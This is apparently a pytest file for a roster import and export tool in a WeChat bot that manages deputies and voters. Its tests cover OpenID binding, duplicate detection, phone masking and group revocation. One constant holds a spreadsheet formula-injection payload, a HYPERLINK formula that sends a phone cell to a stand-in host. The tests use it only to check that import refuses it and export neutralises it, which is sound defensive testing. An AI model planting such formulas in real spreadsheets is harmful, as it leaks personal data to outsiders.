"""The roster import refuses what would break the database or leak phones, and the
export cannot be turned against the staff who open it."""
from __future__ import annotations

from sqlalchemy import select

from bot.models import Deputy, Voter
from roster_book import NOW, load, mini, problems, write_book  # noqa: F401 (load is a fixture)

IGNORED = "微信OpenID：代表微信绑定只能通过绑定卡并由工作人员确认，名册中的 OpenID 不会生效"


def _bind(db, code: str, openid: str) -> None:
    """What a scanned card and a clerk's confirmation leave (services/accounts/bindings.py), set directly."""
    db.scalar(select(Deputy).where(Deputy.code == code)).openid = openid
    db.commit()


def test_a_deputys_openid_in_the_file_binds_nobody_and_is_a_warning_row(load, db):
    book = mini()
    assert not load(book).problems
    _bind(db, "D1", "oTaken")
    book["代表"].append(["D9", "新代表", "", "乡", "X1", "", "", "是", "oTaken"])  # D1's account, on a new row
    book["代表"][3][8] = "oAnyone"  # D3, bound to nobody
    book["联系"].append(["D2", "D9"])
    summary = load(book)
    assert summary.problems == []  # the rest of the file is imported
    assert [str(w) for w in summary.warnings] == [f"代表 表第 5 行，{IGNORED}", f"代表 表第 6 行，{IGNORED}"]
    db.expire_all()
    openids = dict(db.execute(select(Deputy.code, Deputy.openid)).all())
    assert (openids["D1"], openids["D3"], openids["D9"]) == ("oTaken", None, None)


def test_two_voter_rows_of_a_file_with_one_openid_are_named(load, db):
    book = mini()
    book["选民"][0][6] = "oSame"
    book["选民"][1][6] = "oSame"
    assert problems(load(book)) == ["选民 表第 3 行，微信OpenID：与第 2 行（P1）的微信OpenID相同"]
    assert db.scalar(select(Voter).where(Voter.code == "P1")) is None


def test_a_deputys_own_openid_or_a_blank_cell_is_fine_on_each_mandate_row(load, db):
    book = mini()
    assert not load(book).problems
    _bind(db, "D2", "oD2")
    book["代表"][1][8] = "oD2"  # as the export writes it; the other row left blank
    again = load(book)
    assert (again.problems, again.warnings, again.changed) == ([], [], False)
    book["代表"][2][8] = "oD2-other-phone"
    assert [str(w) for w in load(book).warnings] == [f"代表 表第 4 行，{IGNORED}"]
    assert db.scalar(select(Deputy.openid).where(Deputy.code == "D2")) == "oD2"


def test_an_openid_of_a_wechat_only_voter_is_refused(load, db):
    db.add(Voter(openid="oWeChatOnly", subscribed=True))
    db.commit()
    book = mini()
    book["选民"][0][6] = "oWeChatOnly"
    assert problems(load(book)) == ["选民 表第 2 行，微信OpenID：已绑定到一位微信用户"]


EVIL = '=HYPERLINK("http://evil.example/?p="&C3,"赵桂英")'


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_refused(load, db, tmp_path):
    import csv

    path = tmp_path / "v.csv"
    with open(path, "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["编码", "姓名", "手机"], ["P7", EVIL, "13900001111"], ["P8", "@SUM(1)", ""],
                                  ["P9", "钱德福", "13900005678"]])
    assert problems(load(path)) == ["选民 表第 2 行，姓名：不能以 = + - @ 开头（表格软件会把它当作公式）",
                                   "选民 表第 3 行，姓名：不能以 = + - @ 开头（表格软件会把它当作公式）"]
    assert db.scalar(select(Voter).where(Voter.code == "P9")) is None


def test_the_export_writes_formula_like_text_as_text_from_the_second_row(load, ext, db, tmp_path):
    from openpyxl import load_workbook

    from bot.services.roster.workbook.export import write_export

    assert not load(mini()).problems
    p1 = db.scalar(select(Voter).where(Voter.code == "P1"))
    p1.name = EVIL  # got into the database some other way
    db.commit()
    write_export(db, tmp_path / "out.xlsx", ext.phones)
    ws = load_workbook(tmp_path / "out.xlsx")["选民"]
    assert [ws.cell(r, 1).value for r in (2, 3, 4)] == ["P1", "P2", "P3"]
    assert (ws.cell(2, 2).value, ws.cell(2, 2).data_type) == (EVIL, "s")
    assert ws.cell(2, 3).value == "13900001234" and ws.cell(2, 3).number_format == "@"
    assert ws.cell(150, 3).number_format == "@"  # blank rows below still take phones as text


def test_problems_never_echo_a_phone_number_pasted_into_the_wrong_column(load):
    book = mini()
    book["代表"][0][3] = "13800000001"  # one column right of 手机
    book["选民"][0][3:5] = ["13900001234", ""]  # a phone in 行政村
    book["选民"][1][0] = "+8613900005678"
    assert problems(load(book)) == [
        "代表 表第 2 行，级别：“138****0001”不是 市/县/乡 之一",
        "选民 表第 2 行，行政村：“139****1234”在行政村表和已有名册中都找不到",
        "选民 表第 3 行，编码：“+861****5678”不是有效编码（只能用字母、数字、- 和 _，最多 32 位）",
    ]


def test_a_blank_active_cell_keeps_a_revoked_group_revoked_and_a_retired_deputy_retired(load, db):
    from bot.models import VoterGroup
    from bot.services.roster.binding import revoke_group

    book = mini()
    book["联系选民群"][0][4] = ""  # staff usually leave 启用 blank
    assert not load(book).problems
    group = db.scalar(select(VoterGroup).where(VoterGroup.code == "G1"))
    assert group.active  # a new group with a blank cell is on
    revoke_group(db, "G1", NOW)
    db.scalar(select(Deputy).where(Deputy.code == "D3")).active = False
    db.commit()
    again = load(book)  # the same file again
    assert not again.changed
    db.expire_all()
    group = db.scalar(select(VoterGroup).where(VoterGroup.code == "G1"))
    assert (group.active, group.revoked_at is not None) == (False, True)
    assert db.scalar(select(Deputy.active).where(Deputy.code == "D3")) is False
    book["联系选民群"][0][4] = "是"  # saying so turns it back on
    assert load(book).changes == ["联系选民群 G1：启用"]
    db.expire_all()
    assert db.scalar(select(VoterGroup.revoked_at).where(VoterGroup.code == "G1")) is None
